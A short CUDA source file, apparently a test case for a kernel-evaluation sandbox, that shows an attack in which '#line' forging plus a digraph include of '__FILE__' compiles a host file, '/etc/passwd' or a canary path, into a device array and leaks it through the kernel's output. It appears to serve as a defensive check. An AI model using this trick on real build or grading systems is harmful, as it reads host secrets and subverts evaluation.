// Attack: #line forging. Diagnostics then claim to come from a host file
// (and a later line), and __FILE__ holds that path: stringified into a
// message it is harmless, used as an include operand (%:include __FILE__)
// it opens the file.
// clang-format off
#line 1 "/etc/passwd"
#define STR(...) #__VA_ARGS__
static_assert(false, __FILE__);
#line 1 "@CANARY_FILE@"
__device__ int leak[] = {
%:include __FILE__
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
